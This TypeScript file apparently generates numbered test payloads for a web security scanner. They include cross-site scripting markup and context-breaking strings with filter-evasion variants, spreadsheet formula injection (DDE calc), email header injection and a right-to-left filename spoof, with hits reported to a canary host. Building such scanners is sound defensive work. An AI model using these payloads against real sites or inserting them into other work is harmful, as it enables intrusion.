/** The function that every payload calls when a browser runs it. `visits.ts` listens to it. */
export const CANARY = 'alert';
/** The host of every request that only a running payload would send. No name server knows it. */
export const CANARY_HOST = 'canario.invalid';

const call = (n: number) => `${CANARY}(${n})`;

/** Ways to run a script from markup, each with the place of its call. */
const MARKUP: readonly ((js: string) => string)[] = [
  (js) => `<script>${js}</script>`,
  (js) => `<img src=x onerror=${js}>`,
  (js) => `<svg onload=${js}>`,
  (js) => `"><img src=x onerror=${js}>`,
  (js) => `'><svg/onload=${js}>`,
  (js) => `</title><script>${js}</script>`,
  (js) => `</textarea><img src=x onerror=${js}>`,
  (js) => `</script><script>${js}</script>`,
  (js) => `<iframe srcdoc="<script>parent.${js}</script>">`,
  (js) => `<iframe src=javascript:${js}>`,
  (js) => `<a href=javascript:${js}>x</a>`,
  (js) => `<details open ontoggle=${js}>`,
  (js) => `<input autofocus onfocus=${js}>`,
  (js) => `<video><source onerror=${js}></video>`,
  (js) => `<math><mtext><img src=x onerror=${js}>`,
  (js) => `<style>@import'//${CANARY_HOST}'</style><b>${js}</b>`,
  (js) => `<link rel=stylesheet href=//${CANARY_HOST}><b>${js}</b>`,
  (js) => `<base href=//${CANARY_HOST}/><b>${js}</b>`,
  (js) => `<meta http-equiv=refresh content="0;url=javascript:${js}">`,
  (js) => `<form action=javascript:${js}><button>x</button></form>`,
  (js) => `<object data=javascript:${js}></object>`,
  (js) => `<embed src=javascript:${js}>`,
  (js) => `<svg><animate onbegin=${js} attributeName=x dur=1s>`,
  (js) => `<svg><use href="data:image/svg+xml,<svg id=x onload=${js} />#x">`,
  (js) => `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
  (js) => `<template><script>${js}</script></template>`,
  (js) => `<!--<img src="--><img src=x onerror=${js}//">`,
  (js) => `<![CDATA[<script>${js}</script>]]>`,
  (js) => `<IMG """><SCRIPT>${js}</SCRIPT>">`,
  (js) => `<scr\u0000ipt>${js}</scr\u0000ipt>`.replaceAll('\u0000', ''),
  (js) => `<body onpageshow=${js}>`,
  (js) => `<button popovertarget=x>${js}</button><b popover id=x onbeforetoggle=${js}>`,
];

/** Texts that become code in a script, an address, a template or a style. */
const CONTEXTS: readonly ((js: string) => string)[] = [
  (js) => `javascript:${js}`,
  (js) => `JaVaScRiPt:${js}`,
  (js) => `java\tscript:${js}`,
  (js) => `data:text/html,<script>${js}</script>`,
  (js) => `vbscript:${js}`,
  (js) => `';${js};'`,
  (js) => `";${js};"`,
  (js) => `\`;${js};\``,
  (js) => `\${${js}}`,
  (js) => `{{constructor.constructor('${js}')()}}`,
  (js) => `\\u003cscript\\u003e${js}\\u003c/script\\u003e`,
  (js) => `&lt;script&gt;${js}&lt;/script&gt;`,
  (js) => `&#60;script&#62;${js}&#60;/script&#62;`,
  (js) => `%3Cscript%3E${js}%3C/script%3E`,
  (js) => `\u2028${js}\u2029`,
  (js) => `+ADw-script+AD4-${js}+ADw-/script+AD4-`,
  (js) => `x" onmouseover="${js}" y="`,
  (js) => `x' onfocus='${js}' autofocus y='`,
  (js) => `https://logo.invalid/x.png?"><img src=x onerror=${js}>`,
  (js) => `expression(${js})`,
  (js) => `[x](javascript:${js})`,
  (js) => `![x](x"onerror="${js})`,
  (js) => `__proto__[innerHTML]=<img src=x onerror=${js}>`,
  (js) => `<\u200bscript>${js}</script>`,
  (js) => `＜script＞${js}＜/script＞`,
];

/** Texts that become a formula in a spreadsheet, or another line of a header of a message. */
const CELLS: readonly ((n: number) => string)[] = [
  (n) => `=cmd|' /C calc'!A${n}`,
  (n) => `+1+cmd|' /C calc'!A${n}`,
  (n) => `-2+3+cmd|' /C calc'!A${n}`,
  (n) => `@SUM(1+${n})*cmd|' /C calc'!A0`,
  (n) => `x;=HYPERLINK("//${CANARY_HOST}/${n}")`,
  (n) => `x,=1+${n}`,
  (n) => `"=1+${n}`,
  (n) => `＝1+${n}`,
  (n) => `x${n}\r\nBcc: vitima@${CANARY_HOST}`,
  (n) => `x${n}\nContent-Type: text/html\n\n<b>x</b>`,
  (n) => `x${n}%0d%0aBcc:%20vitima@${CANARY_HOST}`,
  (n) => `\u202e${n} gpj.exe`,
];

/** Different calls, so that a filter of one of them does not pass. */
const CALLS: readonly ((n: number) => string)[] = [
  call,
  (n) => `top[/${CANARY.slice(0, 2)}/.source+/${CANARY.slice(2)}/.source](${n})`,
  (n) => `fetch('//${CANARY_HOST}/${n}')`,
];

/** Many different payloads, each with its number. The first ones are the most common. */
export function payloads(count: number): string[] {
  const made: string[] = [];
  for (let round = 0; made.length < count; round++) {
    const js = CALLS[round % CALLS.length] ?? call;
    for (const wrap of [...MARKUP, ...CONTEXTS]) made.push(wrap(js(made.length)));
    if (round === 0) for (const cell of CELLS) made.push(cell(made.length));
  }
  // The full list mixes all kinds, so that a short run also has some of each.
  const step = Math.max(1, Math.floor(made.length / count));
  return made.filter((_, index) => index % step === 0).slice(0, count);
}

/** The payloads for a field of few characters. */
export const SHORT_PAYLOADS: readonly string[] = [
  ...['<b>', '"><i>', '<svg onload=alert(1)>', '<img src onerror=alert(1)>', '=1+1', '@A1', "'-alert(1)-'"],
  ...['<script>alert(1)', 'javascript:alert(1)', '<a>', '{{1}}', '<', '"', "'", '&lt;'],
];
